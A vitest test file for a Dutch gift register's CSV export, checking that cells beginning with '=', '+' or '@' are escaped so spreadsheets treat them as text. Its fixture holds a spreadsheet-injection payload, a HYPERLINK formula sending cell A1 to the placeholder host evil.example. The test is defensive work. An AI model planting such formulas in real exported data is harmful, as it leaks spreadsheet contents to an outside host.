import { describe, expect, it } from 'vitest';
import { formatListing } from '../../src/reports/register-format.js';
import type { GiftEntry } from '../../src/core/registers/model.js';
import { defaultRuleBase } from '../helpers/rulebase.js';

const entry: GiftEntry = {
  id: '0b5a6c1e-1111-4222-8333-444455556666',
  owner: 'slack:U1',
  direction: 'ontvangen',
  date: '2026-11-20',
  description: '=HYPERLINK("https://evil.example/?d="&A1;"Klik")',
  valueEuros: 25,
  giverOrg: '+31 6 1234',
  giverRelation: 'leverancier',
  accepted: true,
  outcome: 'gedeeld',
  verdict: 'toegestaan_melden',
  status: 'actief',
  createdAt: '2026-11-20T10:00:00.000Z',
  updatedAt: '2026-11-20T10:00:00.000Z',
  reviewedAt: null,
  reviewNote: '@SUM(1+1)',
};

describe('register CSV for the coordinator', () => {
  it('a formula typed by an employee arrives as text, not as something a spreadsheet runs', () => {
    const csv = formatListing({ gifts: [entry], sideJobs: [] }, 'csv', defaultRuleBase().texts);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const [, row] = csv.slice(1).split('\r\n');
    expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1;""Klik"")"`);
    expect(row).toContain(`'+31 6 1234`);
    expect(row).toContain(`'@SUM(1+1)`);
    expect(row).not.toMatch(/;=|;\+|;@/);
  });
});
